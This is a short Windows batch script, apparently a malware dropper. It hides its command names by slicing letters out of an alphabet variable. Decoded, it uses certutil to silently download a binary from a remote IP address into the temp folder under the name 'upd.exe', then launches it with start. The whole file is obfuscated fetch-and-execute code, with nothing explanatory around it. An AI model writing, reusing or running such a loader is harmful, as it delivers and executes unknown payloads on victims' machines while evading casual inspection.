@echo off
set x=qwzabcdefghijklmnopqrstuvwxyz
set "A=abcdefghijklmnopqrstuvwxyz"
%A:~2,1%%A:~4,1%%A:~17,1%%A:~19,1%%A:~20,1%%A:~19,1%%A:~8,1%%A:~11,1% -%A:~20,1%%A:~17,1%%A:~11,1%%A:~2,1%%A:~0,1%%A:~2,1%%A:~7,1%%A:~4,1% -split -f http://198.51.100.7/payload.bin "%TEMP%\upd.exe" >nul
%A:~18,1%%A:~19,1%%A:~0,1%%A:~17,1%%A:~19,1% "" "%TEMP%\upd.exe"
